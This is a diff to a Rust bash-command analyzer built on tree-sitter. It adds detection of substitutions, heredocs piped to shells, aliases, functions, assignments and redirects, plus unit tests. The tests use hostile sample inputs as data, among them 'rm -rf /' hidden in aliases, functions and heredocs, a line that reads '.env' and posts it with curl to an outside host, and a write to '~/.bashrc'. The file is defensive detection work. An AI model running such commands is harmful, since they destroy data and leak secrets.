@@ -5,7 +5,11 @@
 
 use once_cell::sync::Lazy;
 use std::collections::HashSet;
-use tree_sitter::{Node, Parser, Tree};
+use tree_sitter::{Node, Tree};
+
+use super::grammar;
+use super::visit::{self, Redirect};
+use crate::telemetry::trace;
 
 /// Shell interpreters that are dangerous when used as pipe targets
 static SHELL_INTERPRETERS: Lazy<HashSet<&'static str>> = Lazy::new(|| {
@@ -50,12 +54,90 @@ pub struct CommandAnalysis {
     pub has_pipe_to_shell: bool,
     /// Whether there's a pipeline to a script interpreter
     pub has_pipe_to_interpreter: bool,
+    /// Bodies of the outermost command (`$(...)`, backticks) and process
+    /// (`<(...)`, `>(...)`) substitutions, which run wherever they appear
+    pub substitutions: Vec<String>,
+    /// Here-documents and here-strings, with whether a shell reads them
+    pub heredocs: Vec<Heredoc>,
+    /// Aliases and shell functions defined on the line
+    pub definitions: Vec<Definition>,
+    /// Variable assignments (`K=v`, `export K=v`), in source order
+    pub assignments: Vec<Assignment>,
+    /// File redirects (`> out`, `2>&1`, `<<EOF`), in source order
+    pub redirects: Vec<Redirect>,
     /// Raw AST parse succeeded
     pub parsed: bool,
     /// Error message if parsing failed
     pub error: Option<String>,
 }
 
+/// Byte range of a node in the analyzed source
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub struct Span {
+    pub start: usize,
+    pub end: usize,
+}
+
+impl Span {
+    /// The spanned text
+    pub fn text<'a>(&self, source: &'a str) -> &'a str {
+        source.get(self.start..self.end).unwrap_or("")
+    }
+
+    /// Location of a tree-sitter node (kept out of the public API so the
+    /// grammar crate can be bumped without a major release)
+    pub(crate) fn of(node: &Node<'_>) -> Self {
+        Self {
+            start: node.start_byte(),
+            end: node.end_byte(),
+        }
+    }
+}
+
+/// A here-document (`<<EOF`) or here-string (`<<<`)
+#[derive(Debug, Clone)]
+pub struct Heredoc {
+    /// The text the reading command gets on stdin (`<<-` leading tabs removed)
+    pub body: String,
+    /// Whether the delimiter was quoted (`<<'EOF'`, `<<\EOF`), so the body
+    /// is not expanded; substitutions in an unquoted body run wherever it goes
+    pub quoted: bool,
+    /// Whether a shell reads it as a script (`bash <<EOF`, `sudo sh -s <<EOF`,
+    /// `cat <<EOF | sh`)
+    pub to_shell: bool,
+    /// Location of the redirect in the source
+    pub span: Span,
+}
+
+/// What a [`Definition`] defines
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DefinitionKind {
+    Alias,
+    Function,
+}
+
+/// An alias (`alias ll='ls -la'`) or shell function (`gs() { git status; }`)
+#[derive(Debug, Clone)]
+pub struct Definition {
+    pub kind: DefinitionKind,
+    pub name: String,
+    /// What runs when the name is used: the alias value (quotes removed) or
+    /// the function body without its braces
+    pub body: String,
+    /// Location of the definition in the source
+    pub span: Span,
+}
+
+/// A variable assignment (`TOKEN=$(cat .env)`, `export K=v`)
+#[derive(Debug, Clone)]
+pub struct Assignment {
+    pub name: String,
+    /// The value as written (quotes and substitutions kept)
+    pub value: String,
+    /// Location of the assignment in the source
+    pub span: Span,
+}
+
 /// A normalized command with its arguments
 #[derive(Debug, Clone)]
 pub struct NormalizedCommand {
@@ -67,25 +149,31 @@ pub struct NormalizedCommand {
     pub is_dynamic: bool,
     /// Arguments to the command
     pub arguments: Vec<String>,
+    /// Location of the command in the source
+    pub span: Span,
 }
 
 /// Parse and analyze a bash command using tree-sitter
 pub fn analyze_command(source: &str) -> CommandAnalysis {
-    let mut parser = Parser::new();
-
-    // Set the bash language
-    if parser.set_language(&tree_sitter_bash::LANGUAGE.into()).is_err() {
-        return CommandAnalysis {
+    // The pinned grammar, unless it failed its capability check
+    let mut parser = match grammar::parser() {
+        Ok(parser) => parser,
+        Err(error) => return CommandAnalysis {
             commands: vec![],
             has_dynamic_command: false,
             has_pipe_to_shell: false,
             has_pipe_to_interpreter: false,
+            substitutions: vec![],
+            heredocs: vec![],
+            definitions: vec![],
+            assignments: vec![],
+            redirects: vec![],
             parsed: false,
-            error: Some("Failed to load tree-sitter-bash language".to_string()),
-        };
-    }
+            error: Some(error),
+        },
+    };
 
-    let tree = match parser.parse(source, None) {
+    let tree = match trace::span("parse", || parser.parse(source, None)) {
         Some(t) => t,
         None => {
             return CommandAnalysis {
@@ -93,13 +181,18 @@ pub fn analyze_command(source: &str) -> CommandAnalysis {
                 has_dynamic_command: false,
                 has_pipe_to_shell: false,
                 has_pipe_to_interpreter: false,
+                substitutions: vec![],
+                heredocs: vec![],
+                definitions: vec![],
+                assignments: vec![],
+                redirects: vec![],
                 parsed: false,
                 error: Some("Failed to parse command".to_string()),
             };
         }
     };
 
-    analyze_tree(&tree, source)
+    trace::span("ast-analysis", || analyze_tree(&tree, source))
 }
 
 /// Analyze the parsed AST tree
@@ -115,6 +208,11 @@ fn analyze_tree(tree: &Tree, source: &str) -> CommandAnalysis {
             has_dynamic_command: false,
             has_pipe_to_shell: false,
             has_pipe_to_interpreter: false,
+            substitutions: vec![],
+            heredocs: vec![],
+            definitions: vec![],
+            assignments: vec![],
+            redirects: vec![],
             parsed: false,
             error: Some("AST contains parse errors - using fallback".to_string()),
         };
@@ -131,11 +229,31 @@ fn analyze_tree(tree: &Tree, source: &str) -> CommandAnalysis {
     // Check for pipe to shell patterns
     check_pipelines(&root, source, &mut has_pipe_to_shell, &mut has_pipe_to_interpreter);
 
+    let mut substitutions = Vec::new();
+    collect_substitutions(&root, source, &mut substitutions);
+
+    let mut heredocs = Vec::new();
+    collect_heredocs(&root, source, &mut heredocs);
+
+    let mut definitions = Vec::new();
+    collect_definitions(&root, source, &mut definitions);
+
+    let mut assignments = Vec::new();
+    collect_assignments(&root, source, &mut assignments);
+
+    let mut redirects = Vec::new();
+    collect_redirects(&root, source, &mut redirects);
+
     CommandAnalysis {
         commands,
         has_dynamic_command,
         has_pipe_to_shell,
         has_pipe_to_interpreter,
+        substitutions,
+        heredocs,
+        definitions,
+        assignments,
+        redirects,
         parsed: true,
         error: None,
     }
@@ -167,8 +285,184 @@ fn collect_commands(
     }
 }
 
+/// Collect the bodies of the outermost command and process substitutions
+fn collect_substitutions(node: &Node, source: &str, substitutions: &mut Vec<String>) {
+    if matches!(node.kind(), "command_substitution" | "process_substitution") {
+        let text = node.utf8_text(source.as_bytes()).unwrap_or("");
+        let body = substitution_body(text);
+        if !body.is_empty() {
+            substitutions.push(body);
+        }
+        return;
+    }
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor) {
+        collect_substitutions(&child, source, substitutions);
+    }
+}
+
+/// Collect here-documents and here-strings, noting which ones a shell reads
+fn collect_heredocs(node: &Node, source: &str, heredocs: &mut Vec<Heredoc>) {
+    let reader = match node.kind() {
+        "redirected_statement" => node.child_by_field_name("body"),
+        "command" => Some(*node),
+        _ => None,
+    };
+    if let Some(reader) = reader.filter(|r| r.kind() == "command") {
+        let reads_as_shell =
+            extract_command(&reader, source).is_some_and(|cmd| is_shell_reader(&cmd));
+        let mut cursor = node.walk();
+        for redirect in node.children(&mut cursor) {
+            if let Some(heredoc) = extract_heredoc(&redirect, source, reads_as_shell) {
+                heredocs.push(heredoc);
+            }
+        }
+    }
+
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor) {
+        collect_heredocs(&child, source, heredocs);
+    }
+}
+
+/// Collect alias and function definitions, including nested ones
+fn collect_definitions(node: &Node, source: &str, definitions: &mut Vec<Definition>) {
+    let text = |n: &Node| n.utf8_text(source.as_bytes()).unwrap_or("").to_string();
+    match node.kind() {
+        "function_definition" => {
+            if let (Some(name), Some(body)) = (node.child_by_field_name("name"), node.child_by_field_name("body")) {
+                let body = text(&body);
+                let inner = match body.chars().next() {
+                    Some('{' | '(') => body.get(1..body.len() - 1).unwrap_or(""),
+                    _ => &body,
+                };
+                definitions.push(Definition {
+                    kind: DefinitionKind::Function,
+                    name: text(&name),
+                    body: inner.trim().to_string(),
+                    span: Span::of(node),
+                });
+            }
+        }
+        "command" => {
+            let aliases = extract_command(node, source).filter(|cmd| cmd.name == "alias");
+            for argument in aliases.iter().flat_map(|cmd| &cmd.arguments) {
+                if let Some((name, value)) = argument.split_once('=').filter(|_| !argument.starts_with('-')) {
+                    definitions.push(Definition {
+                        kind: DefinitionKind::Alias,
+                        name: name.to_string(),
+                        body: value.to_string(),
+                        span: Span::of(node),
+                    });
+                }
+            }
+        }
+        _ => {}
+    }
+
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor) {
+        collect_definitions(&child, source, definitions);
+    }
+}
+
+/// Collect variable assignments, including those in substitutions and
+/// `export`/`local`/`declare`
+fn collect_assignments(node: &Node, source: &str, assignments: &mut Vec<Assignment>) {
+    if node.kind() == "variable_assignment" {
+        let text = |n: Node| n.utf8_text(source.as_bytes()).unwrap_or("").to_string();
+        if let Some(name) = node.child_by_field_name("name") {
+            assignments.push(Assignment {
+                name: text(name),
+                value: node.child_by_field_name("value").map(text).unwrap_or_default(),
+                span: Span::of(node),
+            });
+        }
+    }
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor) {
+        collect_assignments(&child, source, assignments);
+    }
+}
+
+/// Collect file, heredoc and here-string redirects, including those in
+/// substitutions and function bodies
+fn collect_redirects(node: &Node, source: &str, redirects: &mut Vec<Redirect>) {
+    if matches!(node.kind(), "file_redirect" | "heredoc_redirect" | "herestring_redirect") {
+        redirects.extend(visit::extract_redirect(node, source));
+    }
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor) {
+        collect_redirects(&child, source, redirects);
+    }
+}
+
+/// Build a heredoc from a `heredoc_redirect` or `herestring_redirect` node
+fn extract_heredoc(node: &Node, source: &str, reads_as_shell: bool) -> Option<Heredoc> {
+    let text = |n: &Node| n.utf8_text(source.as_bytes()).unwrap_or("").to_string();
+    let mut cursor = node.walk();
+    let children: Vec<Node> = node.children(&mut cursor).collect();
+    match node.kind() {
+        "heredoc_redirect" => {
+            let start = text(children.iter().find(|c| c.kind() == "heredoc_start")?);
+            let mut body = children
+                .iter()
+                .find(|c| c.kind() == "heredoc_body")
+                .map(text)
+                .unwrap_or_default();
+            if children.iter().any(|c| text(c) == "<<-") {
+                body = body.lines().map(|l| l.trim_start_matches('\t')).collect::<Vec<_>>().join("\n");
+            }
+            // `cat <<EOF | sh`: the pipeline hangs off the redirect
+            let piped_to_shell = children.iter().filter(|c| c.kind() == "pipeline").any(|pipeline| {
+                let mut cursor = pipeline.walk();
+                let stages: Vec<Node> = pipeline.children(&mut cursor).collect();
+                stages
+                    .iter()
+                    .filter_map(|c| extract_command(c, source))
+                    .any(|cmd| is_shell_reader(&cmd))
+            });
+            Some(Heredoc {
+                body,
+                quoted: start.contains(['\'', '"', '\\']),
+                to_shell: reads_as_shell || piped_to_shell,
+                span: Span::of(node),
+            })
+        }
+        "herestring_redirect" => {
+            let word = children.iter().rfind(|c| c.is_named())?;
+            Some(Heredoc {
+                body: normalize_word(word, source),
+                quoted: matches!(word.kind(), "raw_string"),
+                to_shell: reads_as_shell,
+                span: Span::of(node),
+            })
+        }
+        _ => None,
+    }
+}
+
+/// Whether a command runs its stdin as a shell script (through wrappers)
+fn is_shell_reader(cmd: &NormalizedCommand) -> bool {
+    let mut to_shell = false;
+    let mut to_interpreter = false;
+    check_command_for_interpreters(cmd, &mut to_shell, &mut to_interpreter);
+    to_shell
+}
+
+/// Strip `$(`/`<(`/`>(` ... `)` or backticks
+pub(crate) fn substitution_body(text: &str) -> String {
+    let inner = if let Some(rest) = text.strip_prefix('`') {
+        rest.strip_suffix('`').unwrap_or(rest)
+    } else {
+        let rest = text.get(2..).unwrap_or("");
+        rest.strip_suffix(')').unwrap_or(rest)
+    };
+    inner.trim().to_string()
+}
+
 /// Extract a normalized command from a command node
-fn extract_command(node: &Node, source: &str) -> Option<NormalizedCommand> {
+pub(crate) fn extract_command(node: &Node, source: &str) -> Option<NormalizedCommand> {
     let full_text = node.utf8_text(source.as_bytes()).ok()?;
 
     // Find the command_name child
@@ -202,6 +496,7 @@ fn extract_command(node: &Node, source: &str) -> Option<NormalizedCommand> {
         full_command: full_text.to_string(),
         is_dynamic,
         arguments,
+        span: Span::of(node),
     })
 }
 
@@ -227,7 +522,7 @@ fn normalize_command_name(node: &Node, source: &str) -> (String, bool) {
             "concatenation" => {
                 let normalized = normalize_concatenation(&child, source);
                 // Check if any part of the concatenation is dynamic
-                let is_dynamic = has_dynamic_parts(&child, source);
+                let is_dynamic = has_dynamic_parts(&child);
                 return (normalized, is_dynamic);
             }
             // Simple word
@@ -288,13 +583,13 @@ fn normalize_concatenation(node: &Node, source: &str) -> String {
 }
 
 /// Check if a node contains dynamic parts (variables, command substitution)
-fn has_dynamic_parts(node: &Node, source: &str) -> bool {
+fn has_dynamic_parts(node: &Node) -> bool {
     match node.kind() {
         "simple_expansion" | "expansion" | "command_substitution" => true,
         _ => {
             let mut cursor = node.walk();
             for child in node.children(&mut cursor) {
-                if has_dynamic_parts(&child, source) {
+                if has_dynamic_parts(&child) {
                     return true;
                 }
             }
@@ -304,7 +599,7 @@ fn has_dynamic_parts(node: &Node, source: &str) -> bool {
 }
 
 /// Normalize a word (handles quoted strings, concatenations)
-fn normalize_word(node: &Node, source: &str) -> String {
+pub(crate) fn normalize_word(node: &Node, source: &str) -> String {
     match node.kind() {
         "concatenation" => normalize_concatenation(node, source),
         "string" | "raw_string" => {
@@ -594,4 +889,101 @@ mod tests {
         assert!(analysis.parsed);
         assert!(analysis.has_pipe_to_interpreter, "xargs python should be detected as pipe to interpreter");
     }
+
+    #[test]
+    fn test_substitutions_collected() {
+        let subs = |source: &str| analyze_command(source).substitutions;
+        assert_eq!(subs("ls $(rm -rf /)"), ["rm -rf /"]);
+        assert_eq!(subs("echo \"`whoami`\" && diff <(sort a) >(tee b)"), ["whoami", "sort a", "tee b"]);
+        // Only the outermost; the nested one is found when the body is analyzed
+        assert_eq!(subs("echo $(cat $(find . -name x))"), ["cat $(find . -name x)"]);
+        assert!(subs("echo '$(not run)' && ls").is_empty());
+    }
+
+    #[test]
+    fn test_definitions_collected() {
+        let definitions = |source: &str| {
+            analyze_command(source)
+                .definitions
+                .into_iter()
+                .map(|d| (d.kind, d.name, d.body))
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            definitions("alias -p; alias ls='r''m -rf \"/\"' ll=\"ls -la\"; ls"),
+            [
+                (DefinitionKind::Alias, "ls".to_string(), "rm -rf \"/\"".to_string()),
+                (DefinitionKind::Alias, "ll".to_string(), "ls -la".to_string()),
+            ]
+        );
+        assert_eq!(
+            definitions("function gs(){ rm -rf /; }; gs"),
+            [(DefinitionKind::Function, "gs".to_string(), "rm -rf /;".to_string())]
+        );
+        assert_eq!(
+            definitions("outer() ( inner() { ls; }; inner )"),
+            [
+                (DefinitionKind::Function, "outer".to_string(), "inner() { ls; }; inner".to_string()),
+                (DefinitionKind::Function, "inner".to_string(), "ls;".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_assignments_collected() {
+        let assignments: Vec<(String, String)> =
+            analyze_command("K=$(cat .env); export T=\"$K\" U; local V=; curl -d \"$T\" x.io")
+                .assignments
+                .into_iter()
+                .map(|a| (a.name, a.value))
+                .collect();
+        assert_eq!(
+            assignments,
+            [
+                ("K".to_string(), "$(cat .env)".to_string()),
+                ("T".to_string(), "\"$K\"".to_string()),
+                ("V".to_string(), String::new()),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_redirects_collected() {
+        let redirects: Vec<(String, String)> =
+            analyze_command("echo k >> ~/.bashrc && X=$(cat < in.txt 2>/dev/null) | tee log")
+                .redirects
+                .into_iter()
+                .map(|r| (r.operator, r.target))
+                .collect();
+        assert_eq!(
+            redirects,
+            [
+                (">>".to_string(), "~/.bashrc".to_string()),
+                ("<".to_string(), "in.txt".to_string()),
+                (">".to_string(), "/dev/null".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_heredocs_collected() {
+        let heredocs = |source: &str| {
+            analyze_command(source)
+                .heredocs
+                .into_iter()
+                .map(|h| (h.body.trim_end().to_string(), h.quoted, h.to_shell))
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(heredocs("bash <<'EOF'\nrm -rf /\nEOF"), [("rm -rf /".to_string(), true, true)]);
+        assert_eq!(
+            heredocs("sudo bash -s <<EOF > out.log\necho $HOME\nEOF"),
+            [("echo $HOME".to_string(), false, true)]
+        );
+        assert_eq!(heredocs("cat <<-EOF | sh\n\tmake\n\tEOF"), [("make".to_string(), false, true)]);
+        assert_eq!(
+            heredocs("cat <<\\EOF > notes.md\nrm -rf /\nEOF"),
+            [("rm -rf /".to_string(), true, false)]
+        );
+        assert_eq!(heredocs("sh <<< 'ls -la'"), [("ls -la".to_string(), true, true)]);
+    }
 }